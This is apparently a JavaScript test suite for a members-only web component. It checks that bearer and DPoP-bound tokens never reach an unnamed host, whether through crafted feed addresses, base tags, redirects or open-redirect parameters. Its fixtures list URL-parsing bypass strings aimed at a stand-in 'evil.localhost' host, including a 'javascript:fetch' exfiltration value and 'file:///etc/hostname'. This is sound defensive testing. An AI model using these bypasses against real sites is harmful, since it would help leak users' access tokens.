import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import {
  OPEN,
  SECRET,
  briefingTag,
  faultsOf,
  feedOf,
  gateTag,
  gatesOf,
  press,
  sessionTag,
  shows,
  useRig,
} from './gate-rig.js';
import { until } from './support.js';

const KINDS = [
  ['bearer token', {}],
  ['token bound to a key', { dpop: {} }],
];

describe('Where a token goes', () => {
  const rig = useRig();

  /** Requests with proof of a reader in them, and preflights that ask for it. */
  const withProof = (requests) =>
    requests.filter(
      ({ headers }) =>
        headers.authorization || headers.dpop || /authorization|dpop/.test(headers['access-control-request-headers']),
    );
  /** What a feed may try to have the token sent to another server. */
  const hostile = () => {
    const { port, otherPort } = rig;
    return [
      `http://evil.localhost:${port}/take`,
      `//evil.localhost:${port}/take`,
      `http:\\\\evil.localhost:${port}\\take`,
      `/\\evil.localhost:${port}/take`,
      `\\/evil.localhost:${port}/take`,
      ` \t\nht\ntp://ev\til.localhost:${port}/take`,
      `\u0000http://evil.localhost:${port}/take`,
      `HTTP:////evil.localhost:${port}/take`,
      `http://feed.localhost.evil.localhost:${port}/take`,
      `http://feed.localhost.evil.test:${port}/take`,
      `http://feed.localhost\u3002evil.localhost:${port}/take`,
      `http://notfeed.localhost:${port}/take`,
      `http://members.feed.localhost:${port}/take`,
      `http://feed.localhost.:${port}/take`,
      `http://f\u0435\u0435d.localhost:${port}/take`,
      `http://feed.localhost:${otherPort}/take`,
      `https://feed.localhost:${port}/take`,
      `http://127.0.0.1:${port}/take`,
      `http://2130706433:${port}/take`,
      `http://evil.localhost:${port}/#http://feed.localhost:${port}/`,
      `http://evil.localhost:${port}/?http://feed.localhost:${port}/`,
      `http://evil.localhost:${port}/http://feed.localhost:${port}/`,
    ];
  };
  /** What is no address of a server, or hides which one. */
  const odd = () => [
    `http://feed.localhost@evil.localhost:${rig.port}/take`,
    `http://feed.localhost:${rig.port}@evil.localhost:${rig.port}/take`,
    `http://evil.localhost:${rig.port}\uff0f.feed.localhost:${rig.port}/`,
    `data:application/json,{"sections":[{"title":"False"}]}`,
    `javascript:fetch("http://evil.localhost:${rig.port}/take")`,
    `blob:http://feed.localhost:${rig.port}/7f2c6f5e-0000-4000-8000-000000000000`,
    `ftp://feed.localhost/take`,
    `ws://feed.localhost:${rig.port}/take`,
    `file:///etc/hostname`,
    'http://',
  ];

  /** A token went to the good gate alone, each of the others says what is the matter, and the teaser is still there. */
  const refusedAll = async (page, addresses) => {
    await shows(page, 'unlocked', 0);
    const refused = async () => {
      const [, ...others] = await gatesOf(page);
      return others.every(({ state }) => state === 'failed') && others;
    };
    const others = await until(refused, 'every other gate has failed', 4000).catch(async (error) => {
      const [, ...now] = await gatesOf(page);
      const wrong = now.flatMap(({ state }, index) => (state === 'failed' ? [] : `${addresses[index]} is ${state}`));
      throw new Error(`${error.message}; ${wrong.join('\n')}`);
    });
    assert.equal(others.length, addresses.length);
    for (const [index, { text, isTeaserShown }] of others.entries()) {
      assert.ok(text.includes('This part is not available on this page.'), addresses[index]);
      assert.ok(!text.includes('Try again'), addresses[index]);
      assert.ok(isTeaserShown, `the teaser of ${addresses[index]}`);
    }
    const told = await page.evaluate(() => window.rig.events.filter(({ type }) => type === 'briefing-error'));
    assert.deepEqual(
      told.map(({ code }) => code),
      addresses.map(() => 'not-named'),
    );
    assert.deepEqual(withProof(rig.evil()), []);
    assert.deepEqual(await faultsOf(page), []);
  };

  for (const [kind, options] of KINDS) {
    it(`A1 a ${kind} goes to no address of a feed that the page has not named`, async () => {
      const op = await rig.provider(options);
      const feed = rig.feed([op.members('good'), ...hostile()]);
      const page = await rig.signIn(rig.page(sessionTag(op, briefingTag(feed))));
      await refusedAll(page, hostile());
      assert.deepEqual(rig.evil(), [], 'evil was not asked at all');
      assert.equal(withProof(op.asked('/members/')).length, 1, 'the good one got it');
    });
  }

  it('A1 each of those addresses reaches evil, with the token, where a script sends it', async () => {
    const page = await rig.open(rig.page(''));
    for (const address of hostile()) {
      rig.log.length = 0;
      const base = rig.url('feed');
      await page.evaluate(
        (...[to, from]) => fetch(new URL(to, from), { headers: { authorization: 'Bearer x' } }).catch(() => undefined),
        address,
        base,
      );
      // The other scheme is not spoken there: what is seen is the attempt.
      const isSeen = () => rig.evil().some(({ method, headers }) => method === '(no HTTP)' || headers.authorization);
      await until(isSeen, `${address} is asked`);
    }
  });

  it('A1 an address that is none, or that hides its host, is refused in the same words', async () => {
    const op = await rig.provider();
    const feed = rig.feed([op.members('good'), ...odd()]);
    const page = await rig.signIn(rig.page(sessionTag(op, briefingTag(feed))));
    await page.waitForNetworkIdle({ idleTime: 100 });
    assert.deepEqual(rig.evil(), [], 'evil was not asked at all');
    assert.deepEqual(await faultsOf(page), []);
    await refusedAll(page, odd());
  });

  for (const place of ['before', 'head']) {
    const where = place === 'head' ? 'after' : 'before';
    it(`A1 a <base> of somebody else’s ${where} the script leads no token away`, async () => {
      const op = await rig.provider();
      const base = `<base href="${rig.url('evil')}">`;
      // What the page says of the session in relative URLs is of the page itself.
      const tag = sessionTag(
        { ...op, resource: `${op.resource} /members/` },
        `<member-gate src="${op.members('good')}" heading="Good"></member-gate>
         ${gateTag('members/x')} ${gateTag('/members/x')} ${gateTag('//evil.localhost/members/x')}
         <event-briefing><script type="application/json">${JSON.stringify(feedOf(['members/x', '/members/x']))}</script></event-briefing>`,
      );
      const page = await rig.signIn(rig.page(tag, { [place]: base }));
      const others = await until(async () => {
        const [, ...rest] = await gatesOf(page);
        return rest.length === 5 && rest.every(({ state }) => state === 'failed') && rest;
      }, 'all others are refused');
      for (const { text } of others) assert.ok(text.includes('This part is not available on this page.'), text);
      assert.deepEqual(withProof(rig.evil()), []);
      const [{ url }] = op.asked('/authorize');
      const asked = new URL(url, rig.url('idp')).searchParams;
      assert.equal(asked.get('redirect_uri'), rig.url('partner', '/signed-in.html'));
      assert.deepEqual(asked.getAll('resource'), [op.resource, rig.url('partner', '/members/')]);
    });
  }

  it('A1 a feed that is redirected to evil’s names evil, and gets no token', async () => {
    const op = await rig.provider();
    rig.feed(['members/x', '/members/x'], { site: 'evil', path: '/moved.json' });
    const moved = rig.serve('feed', '/moved.json', {
      status: 302,
      headers: { Location: rig.url('evil', '/moved.json'), 'Access-Control-Allow-Origin': '*' },
    });
    const tag = sessionTag(op, `${gateTag(op.members('good'))}${briefingTag(moved)}`);
    const page = await rig.signIn(rig.page(tag));
    await refusedAll(page, ['members/x', '/members/x']);
    assert.deepEqual(
      rig.evil().map(({ url }) => url),
      ['/moved.json'],
      'evil was asked for its feed alone',
    );
  });

  it('A1 an address that a feed changes under an open gate is refused, and the text leaves', async () => {
    const op = await rig.provider();
    const page = await rig.signIn(rig.page(sessionTag(op, briefingTag(rig.feed([op.members('good')])))));
    for (const address of [rig.url('evil', '/take'), op.members('good'), rig.url('evil', '/again')]) {
      const isGood = address === op.members('good');
      await page.evaluate(
        (feed) => Object.assign(document.querySelector('event-briefing'), { feed }),
        feedOf([address]),
      );
      await shows(page, isGood ? 'unlocked' : 'failed');
      assert.equal((await gatesOf(page))[0].text.includes(SECRET), isGood);
    }
    assert.deepEqual(rig.evil(), []);
    assert.deepEqual(await faultsOf(page), []);
  });

  const REDIRECTS = [301, 302, 303, 307, 308];
  const redirect = (status, target) => (entry) =>
    entry.method === 'OPTIONS' ? { status: 204, headers: OPEN } : { status, headers: { ...OPEN, Location: target } };
  /** The addresses of the members' endpoint that lead elsewhere. `moved` is what was asked there. */
  const redirects = ({ base }) => {
    const target = (entry) =>
      entry.method === 'OPTIONS' ? { status: 204, headers: OPEN } : { headers: OPEN, body: '{}' };
    rig.serve('feed', '/target', target);
    rig.serve('evil', '/target', target);
    return REDIRECTS.flatMap((status) =>
      [
        rig.serve('feed', `${base}/members/${status}-own`, redirect(status, rig.url('feed', '/target'))),
        rig.serve('feed', `${base}/members/${status}-evil`, redirect(status, rig.url('evil', '/target'))),
        rig.serve('feed', `${base}/members/${status}-twice`, redirect(status, rig.url('feed', `/hop-${status}`))),
        (rig.serve('feed', `/hop-${status}`, redirect(status, rig.url('evil', '/target'))), []),
      ].flat(),
    );
  };
  const moved = () => rig.log.filter(({ url }) => /^\/(target|hop)/.test(url));

  for (const [kind, options] of KINDS) {
    it(`A2 a redirect of the members’ address is not followed with a ${kind}`, async () => {
      const op = await rig.provider(options);
      const addresses = redirects(op);
      const feed = rig.feed([op.members('good'), ...addresses]);
      const page = await rig.signIn(rig.page(sessionTag(op, briefingTag(feed))));
      const others = await until(async () => {
        const [, ...rest] = await gatesOf(page);
        return rest.every(({ state }) => state === 'failed') && rest;
      }, 'all redirected gates have failed');
      for (const [index, { text, isTeaserShown }] of others.entries()) {
        assert.ok(text.includes('The publisher’s server did not give this part.'), addresses[index]);
        assert.ok(text.includes('Try again') && isTeaserShown, addresses[index]);
      }
      for (const address of addresses) assert.equal(rig.asked(address).length, 1, `${address} is asked once`);
      assert.deepEqual(moved(), [], 'nothing reaches what a redirect names');
      assert.deepEqual(rig.evil(), []);
      assert.deepEqual(await faultsOf(page), []);
    });
  }

  it('A2 each of those redirects leads a script that follows them on', async () => {
    const op = await rig.provider();
    const addresses = redirects(op);
    const page = await rig.open(rig.page(''));
    for (const address of addresses) {
      rig.log.length = 0;
      await page.evaluate((url) => fetch(url, { headers: { 'x-control': 'seen' } }).catch(() => undefined), address);
      assert.ok(
        moved().some(({ headers }) => headers['x-control']),
        address,
      );
    }
  });

  it('A2 a redirect of a provider’s endpoint is not followed either', async () => {
    for (const place of ['discovery', 'token', 'revocation']) {
      for (const status of [307, 302]) {
        const headers = { Location: rig.url('evil', '/target') };
        const op = await rig.provider({ [place]: { status, headers } });
        const page = await rig.open(rig.pageOf(op));
        await shows(page, 'locked');
        await press(page, 'sign-in');
        if (place === 'revocation') {
          await shows(page, 'unlocked');
          await press(page, 'sign-out');
          await until(() => op.asked('/revoke').length > 0, 'a token is given back');
        } else await until(() => page.evaluate(() => window.rig.part('notice')?.textContent), 'a notice');
        await shows(page, 'locked');
        assert.deepEqual(rig.evil(), [], place);
        await page.close();
      }
    }
  });

  it('A16 where a reader comes back to stands in the page’s own tags and nowhere else', async () => {
    const op = await rig.provider();
    const target = rig.url('evil', '/next');
    const names = [
      'return_to',
      'redirect_uri',
      'redirect-uri',
      'post_logout_redirect_uri',
      'next',
      'continue',
      'state',
    ];
    const tricks = [
      target,
      target.replace('http:', ''),
      target.replace('http://', 'http:\\\\'),
      '/\\evil.localhost',
      'javascript:alert(1)',
    ];
    const list = tricks.flatMap((trick) => names.map((name) => [name, trick]));
    const wishes = Object.fromEntries(names.map((name) => [name, target]));
    const feed = rig.feed([op.members('good')], { more: wishes, feed: wishes });
    const address = rig.page(sessionTag(op, briefingTag(feed)));
    const query = new URLSearchParams(list);
    const page = await rig.signIn(`${address}?${query}#${query}`);
    await press(page, 'sign-out');
    await until(() => op.asked('/end_session').length === 1, 'the provider is told');
    await until(() => rig.windows() === 1, 'the window is closed');

    const parametersOf = (path) => [...new URL(op.asked(path)[0].url, op.issuer).searchParams];
    const callback = rig.url('partner', '/signed-in.html');
    const { state, nonce, code_challenge: challenge, ...rest } = Object.fromEntries(parametersOf('/authorize'));
    for (const each of [state, nonce, challenge]) assert.match(each, /^[\w-]{43}$/);
    assert.deepEqual(rest, {
      ...{ client_id: 'partner', redirect_uri: callback, response_type: 'code', scope: 'openid profile' },
      ...{ code_challenge_method: 'S256', response_mode: 'fragment', resource: op.resource },
    });
    assert.deepEqual(parametersOf('/end_session'), [
      ['client_id', 'partner'],
      ['post_logout_redirect_uri', callback],
    ]);
    assert.equal(page.url(), `${address}?${query}#${query}`, 'the page has gone nowhere');
    assert.deepEqual(rig.evil(), []);
    assert.deepEqual(await faultsOf(page), []);
  });

  it('A16 the redirect page goes nowhere, whatever its address says', async () => {
    const target = rig.url('evil', '/next');
    const callback = rig.url('partner', '/signed-in.html');
    const page = await rig.open(rig.page(''));
    const wishes = `return_to=${target}&next=${target}&redirect_uri=${target}`;
    const addresses = ['?', '#'].flatMap((mark) => [`${mark}${wishes}`, `${mark}state=x&${wishes}`]);
    await page.evaluate(
      (all) => void (window.opened = all.map((each) => open(each))),
      addresses.map((each) => callback + each),
    );
    const served = () => rig.log.filter(({ url }) => url.startsWith('/signed-in.html')).length;
    await until(() => served() === addresses.length, 'each is loaded');
    // Each has read its address, and waits for the page that asked, or is closed.
    const areDone = (bare) => window.opened.every(({ closed, location }) => closed || location.href === bare);
    await until(() => page.evaluate(areDone, callback), 'each has read its address');
    assert.deepEqual(rig.evil(), []);
  });
});
